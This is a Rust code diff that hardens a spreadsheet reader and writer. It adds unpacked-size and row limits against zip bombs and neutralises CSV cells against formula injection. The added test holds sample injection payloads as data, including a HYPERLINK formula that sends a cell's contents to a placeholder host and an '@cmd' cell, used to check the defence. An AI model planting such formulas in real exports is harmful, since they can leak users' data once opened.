@@ -10,6 +10,56 @@ pub enum SheetError {
     NoSheet,
     #[error("cannot write the file: {0}")]
     Write(String),
+    /// Unpacked, the archive is larger than the limit (bytes): likely a "zip bomb".
+    #[error("the file unpacks to more than {0} bytes")]
+    TooLargeUnpacked(u64),
+    #[error("the file has more than {0} rows")]
+    TooManyRows(usize),
+}
+
+/// What a file may hold before it is refused unread. Uploads through the web get
+/// [`Limits::UPLOAD`]; the command line, run by the office on its own files, more.
+#[derive(Debug, Clone, Copy)]
+pub struct Limits {
+    /// Bytes of all the archive's files, unpacked (XLSX and ODS are ZIP archives).
+    pub max_unpacked: u64,
+    pub max_rows: usize,
+}
+
+impl Limits {
+    pub const UPLOAD: Limits = Limits {
+        max_unpacked: 64 * 1024 * 1024,
+        max_rows: 100_000,
+    };
+    pub const COMMAND_LINE: Limits = Limits {
+        max_unpacked: 4 * 1024 * 1024 * 1024,
+        max_rows: 5_000_000,
+    };
+}
+
+/// Unpacks every file of a ZIP archive into nothing, counting: refuses the archive as
+/// soon as the count passes the limit (declared sizes can lie), so neither memory nor
+/// time is spent on a bomb.
+fn check_unpacked(bytes: &[u8], limit: u64) -> Result<(), SheetError> {
+    let mut zip = zip::ZipArchive::new(Cursor::new(bytes))
+        .map_err(|e| SheetError::Unreadable(e.to_string()))?;
+    let mut total = 0u64;
+    for i in 0..zip.len() {
+        let entry = zip
+            .by_index(i)
+            .map_err(|e| SheetError::Unreadable(e.to_string()))?;
+        let left = limit.saturating_sub(total);
+        let n = std::io::copy(
+            &mut std::io::Read::take(entry, left + 1),
+            &mut std::io::sink(),
+        )
+        .map_err(|e| SheetError::Unreadable(e.to_string()))?;
+        total += n;
+        if total > limit {
+            return Err(SheetError::TooLargeUnpacked(limit));
+        }
+    }
+    Ok(())
 }
 
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
@@ -40,7 +90,19 @@ impl Format {
 
 /// All rows of the first sheet (header included), cells as trimmed text. Dates become
 /// `YYYY-MM-DD`; whole numbers lose their `.0` (a NIK typed as a number stays intact).
-pub fn read(bytes: &[u8]) -> Result<Vec<Vec<String>>, SheetError> {
+/// A file beyond `limits` is refused before it is parsed (archives) or as it is read.
+pub fn read(bytes: &[u8], limits: &Limits) -> Result<Vec<Vec<String>>, SheetError> {
+    if Format::detect(bytes) != Format::Csv {
+        check_unpacked(bytes, limits.max_unpacked)?;
+    }
+    let rows = read_unchecked(bytes)?;
+    if rows.len() > limits.max_rows + 1 {
+        return Err(SheetError::TooManyRows(limits.max_rows));
+    }
+    Ok(rows)
+}
+
+fn read_unchecked(bytes: &[u8]) -> Result<Vec<Vec<String>>, SheetError> {
     match Format::detect(bytes) {
         Format::Csv => read_csv(bytes),
         Format::Xlsx => {
@@ -147,15 +209,41 @@ pub enum Cell {
     Empty,
 }
 
+/// A text cell as a spreadsheet program may not take it for a formula (OWASP's rule):
+/// text starting with `=`, `+`, `-`, `@`, tab or carriage return gets a leading `'`,
+/// unless it is a plain number (`-5`, `+62812…`), which no program runs.
+pub fn neutralise(text: &str) -> std::borrow::Cow<'_, str> {
+    let risky = text.starts_with(['=', '+', '-', '@', '\t', '\r']);
+    let number = {
+        let digits = text.strip_prefix(['+', '-']).unwrap_or(text);
+        !digits.is_empty()
+            && digits
+                .chars()
+                .all(|c| c.is_ascii_digit() || c == '.' || c == ',')
+            && digits.starts_with(|c: char| c.is_ascii_digit())
+    };
+    if risky && !number {
+        format!("'{text}").into()
+    } else {
+        text.into()
+    }
+}
+
+/// Writes CSV; every text cell is neutralised against formula injection.
 pub fn write_csv(header: &[&str], rows: &[Vec<Cell>]) -> Result<Vec<u8>, SheetError> {
+    let mut out = csv_rows(&[header.iter().map(|h| Cell::Text(h.to_string())).collect()])?;
+    out.extend(csv_rows(rows)?);
+    Ok(out)
+}
+
+/// CSV lines of `rows` (no header): a part of a CSV written piece by piece.
+pub fn csv_rows(rows: &[Vec<Cell>]) -> Result<Vec<u8>, SheetError> {
     let mut w = csv::Writer::from_writer(Vec::new());
-    w.write_record(header)
-        .map_err(|e| SheetError::Write(e.to_string()))?;
     for r in rows {
         let rec: Vec<String> = r
             .iter()
             .map(|c| match c {
-                Cell::Text(s) | Cell::Date(s) => s.clone(),
+                Cell::Text(s) | Cell::Date(s) => neutralise(s).into_owned(),
                 Cell::Int(i) => i.to_string(),
                 Cell::Percent(p) => format!("{:.1}%", p * 100.0),
                 Cell::Empty => String::new(),
@@ -253,6 +341,41 @@ fn civil_from_serial(serial: f64) -> String {
 }
 
 #[cfg(test)]
+mod csv_tests {
+    use super::*;
+
+    #[test]
+    fn formulas_are_neutralised_numbers_stay() {
+        let rows = vec![vec![
+            Cell::Text("=HYPERLINK(\"http://x/?\"&A2,\"klik\")".into()),
+            Cell::Text("+SUM(A1)".into()),
+            Cell::Text("-2+3".into()),
+            Cell::Text("@cmd".into()),
+            Cell::Text("\tx".into()),
+            Cell::Text("-500".into()),
+            Cell::Text("+6281234567".into()),
+            Cell::Text("Asep".into()),
+            Cell::Int(-7),
+        ]];
+        let csv = String::from_utf8(write_csv(&["a"; 9], &rows).unwrap()).unwrap();
+        let line = csv.lines().nth(1).unwrap();
+        assert!(line.starts_with("\"'=HYPERLINK("), "{line}");
+        for part in [
+            "'+SUM(A1)",
+            "'-2+3",
+            "'@cmd",
+            "'\tx",
+            ",-500,",
+            ",+6281234567,",
+            ",Asep,",
+            ",-7",
+        ] {
+            assert!(line.contains(part), "{part} in {line}");
+        }
+    }
+}
+
+#[cfg(test)]
 mod tests {
     use super::*;
 
@@ -266,19 +389,23 @@ mod tests {
         ]];
         let bytes = write_xlsx("Data", &["nik", "n", "birth_date", "x"], &rows).unwrap();
         assert_eq!(Format::detect(&bytes), Format::Xlsx);
-        let back = read(&bytes).unwrap();
+        let back = read(&bytes, &Limits::UPLOAD).unwrap();
         assert_eq!(back[0], vec!["nik", "n", "birth_date", "x"]);
         assert_eq!(back[1][..3], ["3279045708920003", "42", "1992-08-17"]);
     }
 
     #[test]
     fn csv_with_semicolons_and_bom() {
-        let rows = read("\u{FEFF}nik;name\n3279045708920003;Siti\n".as_bytes()).unwrap();
+        let rows = read(
+            "\u{FEFF}nik;name\n3279045708920003;Siti\n".as_bytes(),
+            &Limits::UPLOAD,
+        )
+        .unwrap();
         assert_eq!(
             rows,
             vec![vec!["nik", "name"], vec!["3279045708920003", "Siti"]]
         );
-        assert!(read(b"PK\x03\x04garbage").is_err());
+        assert!(read(b"PK\x03\x04garbage", &Limits::UPLOAD).is_err());
     }
 
     #[test]
